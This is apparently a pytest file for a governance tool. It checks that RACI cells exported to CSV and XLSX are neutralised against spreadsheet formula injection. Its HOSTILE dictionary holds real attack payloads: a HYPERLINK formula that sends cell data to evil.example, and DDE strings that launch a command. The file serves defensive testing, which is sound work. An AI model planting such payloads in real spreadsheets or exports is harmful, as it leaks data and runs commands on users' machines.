"""Formula injection: RACI cells from the policy never run in a spreadsheet."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from security_helpers import example_policy, run

from governance.cells import FORMULA_STARTS, csv_cell, neutralise_sheet

HOSTILE = {
    "Генеральный директор": '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "Директор по маркетингу": "=cmd|' /C calc'!A0",
    "Руководитель SMM": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Поставить цели и согласовать показатели": "+1+1",
    "Изменить цели и показатели": "-2+3",
}


@pytest.fixture
def hostile_policy(tmp_path: Path) -> Path:
    policy = example_policy(tmp_path)
    for name in ("roles.yaml", "workflow.yaml"):
        path = policy / name
        text = path.read_text(encoding="utf-8")
        for plain, formula in HOSTILE.items():
            text = text.replace(f": {plain}\n", f": {_yaml(formula)}\n")
        path.write_text(text, encoding="utf-8")
    return policy


def _yaml(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def test_raci_csv_cells_are_neutralised(tmp_path: Path, hostile_policy: Path) -> None:
    out = tmp_path / "raci.csv"
    code, _, err = run("render", "raci", "--policy", hostile_policy, "-o", out)
    assert code == 0, err
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))
             for cell in row]
    for formula in HOSTILE.values():
        assert "'" + formula in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def test_raci_xlsx_keeps_them_as_text(tmp_path: Path, hostile_policy: Path) -> None:
    out = tmp_path / "raci.xlsx"
    code, _, err = run("render", "raci", "--policy", hostile_policy, "-o", out)
    assert code == 0, err
    sheet = openpyxl.load_workbook(out).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for formula in HOSTILE.values():
        assert cells[formula].data_type == "s" and cells[formula].quotePrefix
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    sheet = openpyxl.Workbook().active
    sheet["A1"] = f"{start}1+1"
    neutralise_sheet(sheet)
    assert (sheet["A1"].value, sheet["A1"].data_type) == (f"{start}1+1", "s")


@pytest.mark.parametrize("value", ["Head of SMM", "R", "", 3, None, "a=b", " =1"])
def test_ordinary_cells_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value
